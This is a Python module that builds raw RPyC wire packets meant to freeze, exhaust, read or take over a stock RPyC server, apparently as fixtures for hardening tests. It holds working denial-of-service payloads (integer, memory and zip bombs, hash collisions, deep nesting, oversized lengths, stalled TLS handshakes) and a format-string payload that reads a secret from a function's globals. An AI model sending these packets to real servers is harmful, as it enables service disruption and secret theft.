"""Packets that freeze, fill, read or take over a stock RPyC server, and handshakes by halves.

The wire by hand, as the stock library writes it.
"""

from __future__ import annotations

import struct
import zlib

from rpyc.core import brine, consts

HEADER = struct.Struct("!LB")


def frame(kind: int, sequence: int, value: object) -> bytes:
    payload = brine.I1.pack(kind) + brine.dump((sequence, value))
    return HEADER.pack(len(payload), 0) + payload + b"\n"


def value(x: object) -> tuple[int, object]:
    return (consts.LABEL_VALUE, x)


def stock(handler: int, *boxed: tuple[int, object]) -> bytes:
    return frame(consts.MSG_REQUEST, 2, (handler, (consts.LABEL_TUPLE, boxed)))


def plain(handler: int, *values: object) -> bytes:
    return frame(consts.MSG_REQUEST, 2, (handler, value(values)))


def payload_frame(payload: bytes) -> bytes:
    return HEADER.pack(len(payload), 0) + payload + b"\n"


ROOT = (consts.LABEL_LOCAL_REF, ("root", 1, 2))
THEIRS = (consts.LABEL_REMOTE_REF, ("evil.Cls", 123, 456))
FORMAT = "{0.exposed_fail.__globals__[SECRET]}"
COLLIDING = frozenset(((1 << 61) - 1) * i for i in range(1, 3001))

PACKETS: dict[str, bytes] = {
    "recon: root": plain(consts.HANDLE_GETROOT),
    "recon: dir": stock(consts.HANDLE_DIR, ROOT),
    "recon: repr": stock(consts.HANDLE_REPR, ROOT),
    "ping": plain(consts.HANDLE_PING, b"hi"),
    "close": plain(consts.HANDLE_CLOSE),
    "private attribute": stock(consts.HANDLE_GETATTR, ROOT, value("__class__")),
    "set attribute": stock(consts.HANDLE_SETATTR, ROOT, value("store"), value(1)),
    "call a netref": stock(consts.HANDLE_CALLATTR, ROOT, value("table"), value(()), value(())),
    "bigint bomb": stock(
        consts.HANDLE_CALLATTR, value(7), value("__pow__"), value((6_000_000,)), value(())
    ),
    "memory bomb": stock(
        consts.HANDLE_CALLATTR, value("a"), value("__mul__"), value((1_000_000_000,)), value(())
    ),
    "zip bomb": HEADER.pack(300, 1) + zlib.compress(b"\0" * 200_000, 9)[:300] + b"\n",
    "pickle by reference": stock(
        consts.HANDLE_CALLATTR,
        ROOT,
        value("submit"),
        (consts.LABEL_TUPLE, (THEIRS,)),
        value(()),
    ),
    "ask for a pickle": stock(consts.HANDLE_PICKLE, ROOT, value(4)),
    "exception with a new class": frame(consts.MSG_EXCEPTION, 9, (("m", "X1"), (), (), "")),
    "exception that imports": frame(consts.MSG_EXCEPTION, 9, (("evilmod", "X"), (), (), "")),
    "system exit": frame(consts.MSG_EXCEPTION, 9, (("builtins", "SystemExit"), (7,), (), "")),
    "unasked reply": frame(consts.MSG_REPLY, 9, value(b"x")),
    "format string": stock(
        consts.HANDLE_CALLATTR,
        value(FORMAT),
        value("format"),
        (consts.LABEL_TUPLE, (ROOT,)),
        value(()),
    ),
    "compare with a name": stock(consts.HANDLE_CMP, ROOT, value("other"), value("dangerous")),
    "inspect": stock(consts.HANDLE_INSPECT, value(("x", 1, 2))),
    "instance check": stock(consts.HANDLE_INSTANCECHECK, ROOT, value(("x", 1, 2))),
    "buffer iterator": stock(consts.HANDLE_BUFFITER, ROOT, value(1_000_000)),
    "hash collisions": frame(consts.MSG_REQUEST, 2, (64, value((1, b"", COLLIDING)))),
    "nested tuples": payload_frame(b"\1" + b"\x10" * 200_000),
    "nested wide tuples": payload_frame(b"\1" + b"\x14\x01" * 200_000),
    "text in text": payload_frame(b"\1" + b"\x08" * 200_000),
    "endless number": frame(consts.MSG_REQUEST, 2, (64, value((7**4000, b"", b"")))),
    "netref as a body": frame(
        consts.MSG_REQUEST, 2, (64, (consts.LABEL_TUPLE, (value(1), value(b""), THEIRS)))
    ),
    "huge length": HEADER.pack(0xFFFFFFF0, 0),
    "no length": HEADER.pack(0, 0) + b"\n",
    "http": b"GET / HTTP/1.1\r\nHost: master\r\n\r\n",
    "tls": b"\x16\x03\x01\x02\x00" + b"garbage" * 80,
}

# Beginnings of a TLS handshake that never ends.
HALVES: dict[str, bytes] = {
    "nothing": b"",
    "half a header": b"\x16\x03",
    "half a hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"r" * 100,
    "a hello without an end": b"\x16\x03\x01\x40\x00\x01\x01\xf0\x00\x03\x03" + bytes(16_378),
}
